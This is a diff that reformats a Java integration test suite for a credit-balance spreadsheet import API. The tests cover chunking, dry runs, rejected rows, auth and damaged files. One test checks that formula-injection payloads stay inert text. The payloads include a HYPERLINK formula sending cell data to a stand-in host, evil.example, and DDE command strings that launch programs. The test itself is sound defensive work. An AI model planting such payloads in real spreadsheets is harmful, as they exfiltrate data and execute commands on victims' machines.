@@ -45,8 +45,11 @@ class CreditImportHttpTest {
 
     @Test
     void importPublishesChunksAndCompletesWhenCreditBalanceServiceReports() throws Exception {
-        String id = upload(CREDIT.resolve("main.xlsx"), "replace", false).statusCode(202)
-                .body("status", equalTo("queued")).extract().path("import_id");
+        String id = upload(CREDIT.resolve("main.xlsx"), "replace", false)
+                .statusCode(202)
+                .body("status", equalTo("queued"))
+                .extract()
+                .path("import_id");
 
         JsonPath applying = awaitStatus(id, "applying");
         assertThat(applying.getString("kind")).isEqualTo("credit-balances");
@@ -58,7 +61,8 @@ class CreditImportHttpTest {
 
         try (TopicReader reader = new TopicReader(Topics.IMPORTS_CREDIT_ROWS)) {
             List<TopicReader.Record> chunks = reader.await(2, keyed(id), WAIT);
-            assertThat(chunks).hasSize(2)
+            assertThat(chunks)
+                    .hasSize(2)
                     .allSatisfy(r -> assertThat(r.ceType()).isEqualTo(EventCatalog.CREDIT_ROWS_CHUNK.type()));
             BigDecimal balance = BigDecimal.ZERO;
             int rows = 0;
@@ -71,7 +75,8 @@ class CreditImportHttpTest {
                 assertThat(chunk.get("total_rows").asInt()).isEqualTo(last ? 1353 : 0);
                 assertThat(chunk.get("rows")).hasSize(last ? 353 : 1000);
                 for (JsonNode row : chunk.get("rows")) {
-                    balance = balance.add(new BigDecimal(row.get("balance_amount").asText()));
+                    balance =
+                            balance.add(new BigDecimal(row.get("balance_amount").asText()));
                     rows++;
                     if (row.get("source_row").asInt() == 19) {
                         assertThat(row.get("client_code").asText()).isEqualTo("AD03C4403");
@@ -86,13 +91,24 @@ class CreditImportHttpTest {
         }
 
         try (EventPublisher publisher = new EventPublisher()) {
-            publisher.send(EventCatalog.CREDIT_IMPORT_RESULT, id, new CreditImportResult(id, "completed", 1352, 1352, 0,
-                    0, List.of(new CreditImportResult.RowError(7, "client_code", "duplicate of row 5")), null));
+            publisher.send(
+                    EventCatalog.CREDIT_IMPORT_RESULT,
+                    id,
+                    new CreditImportResult(
+                            id,
+                            "completed",
+                            1352,
+                            1352,
+                            0,
+                            0,
+                            List.of(new CreditImportResult.RowError(7, "client_code", "duplicate of row 5")),
+                            null));
         }
         JsonPath done = awaitStatus(id, "completed");
         assertThat(done.getInt("rows_accepted")).isEqualTo(1352);
         assertThat(done.getInt("rows_rejected")).isEqualTo(1);
-        assertThat(done.getList("errors.findAll { it.rejected }.row", Integer.class)).containsExactly(7);
+        assertThat(done.getList("errors.findAll { it.rejected }.row", Integer.class))
+                .containsExactly(7);
         assertThat(done.getString("finished_at")).isNotNull();
     }
 
@@ -104,7 +120,12 @@ class CreditImportHttpTest {
         StringBuilder text = new StringBuilder("Client Code,Client Name,Phone No,Treatment Name,Center,"
                 + "Package Amount,Amount Paid,Balance Amount,Sessions Paid,Sessions Consumed,Balance Sessions\n");
         for (int i = 0; i < 1450; i++) {
-            text.append("TM").append(i).append(",Client ").append(i).append(",98110").append(10000 + i)
+            text.append("TM")
+                    .append(i)
+                    .append(",Client ")
+                    .append(i)
+                    .append(",98110")
+                    .append(10000 + i)
                     .append(",Botox,GK2,1000.00,400.00,600.00,5,1,4\n");
         }
         Files.writeString(csv, text);
@@ -115,12 +136,14 @@ class CreditImportHttpTest {
                 .anySatisfy(m -> assertThat(m).contains("more than 1400 data rows"));
         try (TopicReader reader = new TopicReader(Topics.IMPORTS_CREDIT_ROWS)) {
             List<TopicReader.Record> sent = reader.await(2, keyed(id), WAIT);
-            assertThat(sent).extracting(TopicReader.Record::ceType).containsExactly(
-                    EventCatalog.CREDIT_ROWS_CHUNK.type(), EventCatalog.CREDIT_IMPORT_ABORTED.type());
+            assertThat(sent)
+                    .extracting(TopicReader.Record::ceType)
+                    .containsExactly(EventCatalog.CREDIT_ROWS_CHUNK.type(), EventCatalog.CREDIT_IMPORT_ABORTED.type());
             JsonNode chunk = JSON.readTree(sent.get(0).value());
             assertThat(chunk.get("chunk_count").asInt()).isZero();
             assertThat(chunk.get("rows")).hasSize(1000);
-            assertThat(JSON.readTree(sent.get(1).value()).get("reason").asText()).contains("more than 1400 data rows");
+            assertThat(JSON.readTree(sent.get(1).value()).get("reason").asText())
+                    .contains("more than 1400 data rows");
             // nothing else follows: no last chunk
             assertThat(reader.await(3, keyed(id), Duration.ofSeconds(2))).hasSize(2);
         }
@@ -128,11 +151,16 @@ class CreditImportHttpTest {
 
     @Test
     void failureReportedByCreditBalanceServiceFailsTheJob() {
-        String id = upload(CREDIT.resolve("legacy.csv"), "upsert", false).statusCode(202).extract().path("import_id");
+        String id = upload(CREDIT.resolve("legacy.csv"), "upsert", false)
+                .statusCode(202)
+                .extract()
+                .path("import_id");
         awaitStatus(id, "applying");
 
         try (EventPublisher publisher = new EventPublisher()) {
-            publisher.send(EventCatalog.CREDIT_IMPORT_RESULT, id,
+            publisher.send(
+                    EventCatalog.CREDIT_IMPORT_RESULT,
+                    id,
                     new CreditImportResult(id, "failed", 0, 0, 0, 0, List.of(), "database unavailable"));
         }
         JsonPath failed = awaitStatus(id, "failed");
@@ -143,7 +171,10 @@ class CreditImportHttpTest {
 
     @Test
     void dryRunValidatesAndReportsWithoutPublishing() throws Exception {
-        String id = upload(CREDIT.resolve("messy.xlsx"), null, true).statusCode(202).extract().path("import_id");
+        String id = upload(CREDIT.resolve("messy.xlsx"), null, true)
+                .statusCode(202)
+                .extract()
+                .path("import_id");
 
         JsonPath done = awaitStatus(id, "completed");
         assertThat(done.getBoolean("dry_run")).isTrue();
@@ -151,11 +182,13 @@ class CreditImportHttpTest {
         assertThat(done.getInt("rows_accepted")).isEqualTo(161);
         assertThat(done.getInt("rows_rejected")).isZero();
         // the two invalid e-mail addresses are reported; their rows are imported without them
-        assertThat(done.getList("errors.findAll { it.column == \"Email ID's\" }.row", Integer.class)).hasSize(2);
+        assertThat(done.getList("errors.findAll { it.column == \"Email ID's\" }.row", Integer.class))
+                .hasSize(2);
         assertThat(done.getList("errors.rejected", Boolean.class)).doesNotContain(true);
 
         try (Connection db = SuiteInfrastructure.jdbcConnection();
-             PreparedStatement query = db.prepareStatement("select count(*) from outbox_event where aggregate_key = ?")) {
+                PreparedStatement query =
+                        db.prepareStatement("select count(*) from outbox_event where aggregate_key = ?")) {
             query.setString(1, id);
             try (ResultSet result = query.executeQuery()) {
                 result.next();
@@ -167,11 +200,13 @@ class CreditImportHttpTest {
     @Test
     void rejectedRowsAreListedWithRowColumnAndReason() throws Exception {
         Path csv = Files.createTempFile("mixed", ".csv");
-        Files.writeString(csv, "Client Code,Client Name,Phone No,Treatment Name,Center,Package Amount (₹),"
-                + "Amount Paid by the client,Balance Amount (₹),Prepaid / Gift Card Balance,Sessions Paid,"
-                + "Sessions Consumed,Balance Sessions,Email ID's\n"
-                + "ZZ01,Ann,9876543210,Peel,GK2,100,50,50,0,2,1,1,ann@x.com\n"
-                + "ZZ02,Bob,9876543210,Peel,Lajpat Nagar,100,50,50,0,2,1,1,\n");
+        Files.writeString(
+                csv,
+                "Client Code,Client Name,Phone No,Treatment Name,Center,Package Amount (₹),"
+                        + "Amount Paid by the client,Balance Amount (₹),Prepaid / Gift Card Balance,Sessions Paid,"
+                        + "Sessions Consumed,Balance Sessions,Email ID's\n"
+                        + "ZZ01,Ann,9876543210,Peel,GK2,100,50,50,0,2,1,1,ann@x.com\n"
+                        + "ZZ02,Bob,9876543210,Peel,Lajpat Nagar,100,50,50,0,2,1,1,\n");
         String id = upload(csv, "replace", true).statusCode(202).extract().path("import_id");
 
         JsonPath done = awaitStatus(id, "completed");
@@ -179,27 +214,48 @@ class CreditImportHttpTest {
         assertThat(done.getInt("rows_rejected")).isEqualTo(1);
         assertThat(done.getInt("errors[0].row")).isEqualTo(3);
         assertThat(done.getString("errors[0].column")).isEqualTo("Center");
-        assertThat(done.getString("errors[0].message")).contains("not a known center").contains("row not imported");
+        assertThat(done.getString("errors[0].message"))
+                .contains("not a known center")
+                .contains("row not imported");
     }
 
     @Test
     void importsAreListedNewestFirst() {
-        String first = upload(CREDIT.resolve("legacy.csv"), "replace", true).statusCode(202).extract().path("import_id");
-        String second = upload(CREDIT.resolve("legacy.xls"), "replace", true).statusCode(202).extract().path("import_id");
+        String first = upload(CREDIT.resolve("legacy.csv"), "replace", true)
+                .statusCode(202)
+                .extract()
+                .path("import_id");
+        String second = upload(CREDIT.resolve("legacy.xls"), "replace", true)
+                .statusCode(202)
+                .extract()
+                .path("import_id");
         awaitStatus(second, "completed");
 
-        List<String> ids = admin().get("/imports?limit=200").then().statusCode(200).extract().path("import_id");
+        List<String> ids = admin().get("/imports?limit=200")
+                .then()
+                .statusCode(200)
+                .extract()
+                .path("import_id");
         assertThat(ids).contains(first, second);
         assertThat(ids.indexOf(second)).isLessThan(ids.indexOf(first));
-        admin().get("/imports/does-not-exist").then().statusCode(404).body("detail", startsWith("Import does-not-exist"));
+        admin().get("/imports/does-not-exist")
+                .then()
+                .statusCode(404)
+                .body("detail", startsWith("Import does-not-exist"));
     }
 
     @Test
     void onlyAdminsImport() {
-        given().auth().oauth2(TestTokens.staff("GK2")).multiPart("file", CREDIT.resolve("legacy.csv").toFile())
-                .post("/credit-balances/import").then().statusCode(403);
+        given().auth()
+                .oauth2(TestTokens.staff("GK2"))
+                .multiPart("file", CREDIT.resolve("legacy.csv").toFile())
+                .post("/credit-balances/import")
+                .then()
+                .statusCode(403);
         given().multiPart("file", CREDIT.resolve("legacy.csv").toFile())
-                .post("/credit-balances/import").then().statusCode(401);
+                .post("/credit-balances/import")
+                .then()
+                .statusCode(401);
         given().auth().oauth2(TestTokens.staff("GK2")).get("/imports").then().statusCode(403);
         given().get("/imports").then().statusCode(401);
     }
@@ -207,11 +263,14 @@ class CreditImportHttpTest {
     @Test
     void filesThatCannotBeImportedAreRefusedBeforeAJobExists() throws Exception {
         Path bad = CREDIT.resolve("bad");
-        upload(bad.resolve("bad_truncated.xlsx"), null, false).statusCode(422)
+        upload(bad.resolve("bad_truncated.xlsx"), null, false)
+                .statusCode(422)
                 .body("detail", startsWith("The workbook is damaged or incomplete"));
-        upload(bad.resolve("bad_not_excel.xlsx"), null, false).statusCode(415)
+        upload(bad.resolve("bad_not_excel.xlsx"), null, false)
+                .statusCode(415)
                 .body("detail", startsWith("The file is named .xlsx but is not an Excel workbook"));
-        upload(bad.resolve("bad_missing_client_code.xlsx"), null, false).statusCode(422)
+        upload(bad.resolve("bad_missing_client_code.xlsx"), null, false)
+                .statusCode(422)
                 .body("detail", startsWith("required column 'Client Code' missing"));
         upload(CREDIT.resolve("main.json"), null, false).statusCode(415);
 
@@ -220,20 +279,30 @@ class CreditImportHttpTest {
         upload(big, null, false).statusCode(413).body("detail", startsWith("The file is larger than"));
 
         upload(CREDIT.resolve("legacy.csv"), "merge", false).statusCode(400).body("detail", startsWith("mode must be"));
-        admin().multiPart("mode", "replace").post("/credit-balances/import").then().statusCode(400);
+        admin().multiPart("mode", "replace")
+                .post("/credit-balances/import")
+                .then()
+                .statusCode(400);
     }
 
     @Test
     void formulaPayloadsArriveAsInertText() throws Exception {
-        String id = upload(CREDIT.resolve("bad/bad_formula_injection.xlsx"), null, false).statusCode(202)
-                .extract().path("import_id");
+        String id = upload(CREDIT.resolve("bad/bad_formula_injection.xlsx"), null, false)
+                .statusCode(202)
+                .extract()
+                .path("import_id");
         awaitStatus(id, "applying");
         try (TopicReader reader = new TopicReader(Topics.IMPORTS_CREDIT_ROWS)) {
-            JsonNode chunk = JSON.readTree(reader.await(1, keyed(id), WAIT).get(0).value());
+            JsonNode chunk =
+                    JSON.readTree(reader.await(1, keyed(id), WAIT).get(0).value());
             Set<String> names = new java.util.HashSet<>();
             chunk.get("rows").forEach(r -> names.add(r.get("client_name").asText()));
-            assertThat(names).contains("=HYPERLINK(\"http://evil.example/steal?d=\"&C4,\"Click for refund\")",
-                    "=cmd|' /C calc'!A0", "+SUM(1+1)*cmd|' /C notepad'!A0", "@SUM(1,1)");
+            assertThat(names)
+                    .contains(
+                            "=HYPERLINK(\"http://evil.example/steal?d=\"&C4,\"Click for refund\")",
+                            "=cmd|' /C calc'!A0",
+                            "+SUM(1+1)*cmd|' /C notepad'!A0",
+                            "@SUM(1,1)");
         }
     }
 
@@ -243,9 +312,10 @@ class CreditImportHttpTest {
         String elsewhere = UUID.randomUUID().toString();
         String heldHere = UUID.randomUUID().toString();
         try (Connection db = SuiteInfrastructure.jdbcConnection();
-             PreparedStatement insert = db.prepareStatement("insert into credit_import_job (id, filename, mode, dry_run,"
-                     + " status, created_at, started_at, heartbeat_at) values (?, 'sheet.xlsx', 'replace', false, ?,"
-                     + " now() - interval '20 minutes', now() - interval '20 minutes', now() - (? * interval '1 minute'))")) {
+                PreparedStatement insert = db.prepareStatement(
+                        "insert into credit_import_job (id, filename, mode, dry_run,"
+                                + " status, created_at, started_at, heartbeat_at) values (?, 'sheet.xlsx', 'replace', false, ?,"
+                                + " now() - interval '20 minutes', now() - interval '20 minutes', now() - (? * interval '1 minute'))")) {
             Object[][] jobs = {{abandoned, "parsing", 10}, {elsewhere, "queued", 0}, {heldHere, "parsing", 10}};
             for (Object[] job : jobs) {
                 insert.setString(1, (String) job[0]);
@@ -254,7 +324,8 @@ class CreditImportHttpTest {
                 insert.executeUpdate();
             }
         }
-        CreditImportWatchdog watchdog = Arc.container().instance(CreditImportWatchdog.class).get();
+        CreditImportWatchdog watchdog =
+                Arc.container().instance(CreditImportWatchdog.class).get();
         watchdog.hold(heldHere);
         try {
             VertxContextSupport.subscribeAndAwait(watchdog::heartbeat);
@@ -264,7 +335,11 @@ class CreditImportHttpTest {
             watchdog.release(heldHere);
         }
 
-        JsonPath failed = admin().get("/imports/" + abandoned).then().statusCode(200).extract().jsonPath();
+        JsonPath failed = admin().get("/imports/" + abandoned)
+                .then()
+                .statusCode(200)
+                .extract()
+                .jsonPath();
         assertThat(failed.getString("status")).isEqualTo("failed");
         assertThat(failed.getString("finished_at")).isNotNull();
         assertThat(failed.getList("errors.message", String.class))
@@ -297,7 +372,9 @@ class CreditImportHttpTest {
             if (status.equals(job.getString("status"))) {
                 return job;
             }
-            assertThat(job.getString("status")).as("import %s: %s", id, job.prettify()).isNotEqualTo("failed");
+            assertThat(job.getString("status"))
+                    .as("import %s: %s", id, job.prettify())
+                    .isNotEqualTo("failed");
             sleep();
         } while (System.nanoTime() < deadline);
         throw new AssertionError("import " + id + " did not reach " + status + ": " + job.prettify());
